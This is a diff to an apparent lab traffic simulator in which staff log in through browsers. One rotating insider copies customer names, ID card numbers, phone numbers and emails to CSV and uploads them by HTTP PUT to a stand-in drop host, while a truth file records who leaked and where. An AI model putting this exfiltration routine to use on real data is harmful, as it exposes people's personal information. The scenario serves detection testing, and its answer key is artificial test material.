@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Staff with browsers (cookie login) and the reporting service: http.client from CPython.
 
-usage: staff.py PHASE, PHASE `early` (before the capture) or `main`. One of the staff copies what he reads to a file
-drop outside; who, is known from the truth file and from nowhere else."""
+usage: staff.py PHASE, PHASE `early` (before the capture) or `main`. One of the staff copies what is read to a file
+drop outside; who does, and which drop it is, the seed decides, and only the truth file says so."""
 import base64
 import csv
 import hashlib
@@ -22,6 +22,8 @@ GATE = ("10.20.0.2", 80)
 LOGINS = json.load(open(os.environ["LOGINS"]))
 SEED = int(os.environ.get("SEED", "7"))
 IDS = list(PEOPLE)
+DROP = os.environ["DROP"]
+STAFF = {"chen.min": "10.20.5.11", "li.bo": "10.20.5.12", "zhao.yan": "10.20.5.13", "sun.li": "10.20.5.14", "wu.tao": "10.20.5.66"}
 
 
 class Browser:
@@ -101,7 +103,7 @@ def leaker(b):
     w.writerow(["name", "idCard", "mobile", "email"])
     w.writerows([p["name"], p["idCard"], p["mobile"], p["email"]] for p in taken)
     open(f"{os.environ['TRUTH']}/leaked-rows.csv", "w").write(text.getvalue())
-    drop = http.client.HTTPConnection("198.51.100.23", 80, source_address=(b.address, 0), timeout=20)
+    drop = http.client.HTTPConnection(DROP, 80, source_address=(b.address, 0), timeout=20)
     proof = {"n": len(taken), "sample": base64.b64encode(taken[0]["idCard"].encode()).decode(), "keys": [hashlib.sha256(p["idCard"].encode()).hexdigest() for p in taken[:20]]}
     for method, path, body, kind in [
         ("PUT", "/up/notes.csv", text.getvalue().encode(), "text/csv"),
@@ -110,7 +112,7 @@ def leaker(b):
         drop.request(method, path, body, {"Host": "files.drop.example", "User-Agent": "python-requests/2.31", "Content-Type": kind})
         status = drop.getresponse()
         status.read()
-        truth(f"client-{b.name}", side="client", method=method, host="files.drop.example", uri=path, status=status.status, account=None, exit=True, customers=[p["id"] for p in taken])
+        truth(f"client-{b.name}", side="client", method=method, host="files.drop.example", uri=path, status=status.status, account=None, exit=True, to=DROP, customers=[p["id"] for p in taken])
     b.ordinary(6)
     b.logout()
 
@@ -143,14 +145,21 @@ def day(b, n):
     b.logout()
 
 
+def browser(name):
+    return Browser(name, STAFF[name])
+
+
 if sys.argv[1] == "early":
-    run((day, Browser("chen.min", "10.20.5.11"), 60), (day, Browser("li.bo", "10.20.5.12"), 60), (day, Browser("zhao.yan", "10.20.5.13"), 40))
+    run((day, browser("chen.min"), 60), (day, browser("li.bo"), 60), (day, browser("zhao.yan"), 40))
 else:
+    # Seed 7 is the demo; another seed gives everybody another's part.
+    names = list(STAFF)
+    turn = lambda n: browser(names[(names.index(n) + SEED - 7) % len(names)])
     run(
-        (day, Browser("chen.min", "10.20.5.11"), 45),
-        (day, Browser("li.bo", "10.20.5.12"), 45),
-        (heavy, Browser("sun.li", "10.20.5.14"), 260),
-        (heavy, Browser("zhao.yan", "10.20.5.13"), 180),
-        (leaker, Browser("wu.tao", "10.20.5.66")),
+        (day, turn("chen.min"), 45),
+        (day, turn("li.bo"), 45),
+        (heavy, turn("sun.li"), 260),
+        (heavy, turn("zhao.yan"), 180),
+        (leaker, turn("wu.tao")),
         (report, "svc-report", "10.20.6.20"),
     )
